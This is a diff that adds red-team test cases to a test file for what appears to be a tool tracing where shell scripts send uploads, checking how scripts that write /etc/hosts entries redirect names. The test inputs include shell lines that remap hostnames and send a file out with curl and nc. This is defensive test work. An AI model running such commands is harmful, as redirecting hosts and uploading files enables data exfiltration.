@@ -7,6 +7,7 @@ import {
   commandsRun,
   environmentsAlong,
   fileCommands,
+  hostsFileEntries,
   type Upload,
   uploadsIn,
 } from "../../residency/uploads";
@@ -832,5 +833,46 @@ describe("a connection the line or the script redirects", () => {
     ["ssh ops@10.0.1.5 uptime", []],
   ])("twin: %s sends only to its destination", (script, expected) => {
     expect(sends(script)).toEqual(expected);
+  });
+});
+
+// Red team 85 (a20, literal): a script that maps a name to an address in /etc/hosts sends an
+// upload to that name there.
+describe("the entries a script writes into the machine's hosts file", () => {
+  const entries = (script: string) => Object.fromEntries(hostsFileEntries(script));
+  it.each([
+    ['echo "203.0.113.9 api.internal" >> /etc/hosts', { "api.internal": ["203.0.113.9"] }],
+    [
+      "echo 203.0.113.9 a.example B.Example | sudo tee -a /etc/hosts",
+      { "a.example": ["203.0.113.9"], "b.example": ["203.0.113.9"] },
+    ],
+    ["printf '10.0.0.5\\tdb.internal\\n' >> /etc/hosts", { "db.internal": ["10.0.0.5"] }],
+    [
+      "cat >> /etc/hosts <<EOF\n203.0.113.9 up.example\n2001:db8::1 six.example\nEOF\ncurl -T f https://up.example/",
+      { "up.example": ["203.0.113.9"], "six.example": ["2001:db8::1"] },
+    ],
+    [
+      "sed -i 's/^.*db.internal$/203.0.113.7 db.internal/' /etc/hosts",
+      { "db.internal": ["203.0.113.7"] },
+    ],
+    // An address built at run time, as written; one name mapped twice, to both.
+    [
+      'echo "$IP api.internal" >> /etc/hosts\necho "10.0.0.9 api.internal" >> /etc/hosts',
+      { "api.internal": ["$IP", "10.0.0.9"] },
+    ],
+  ])("%s", (script, expected) => {
+    expect(entries(script)).toEqual(expected);
+  });
+
+  it.each([
+    // The machine's own name, built at run time.
+    'echo "127.0.0.1 $(hostname)" >> /etc/hosts',
+    "echo \"$(hostname -I | cut -d' ' -f1) $(hostname)\" >> /etc/hosts",
+    // Another file, and a line beside the write.
+    "echo '203.0.113.9 api.internal' > /tmp/notes",
+    'echo "10.0.0.1 db" >> /etc/hosts.bak',
+    "grep api /etc/hosts && nc 203.0.113.5 9000 < f",
+  ])("twin: %s maps no name", (script) => {
+    expect(entries(script)).toEqual({});
   });
 });
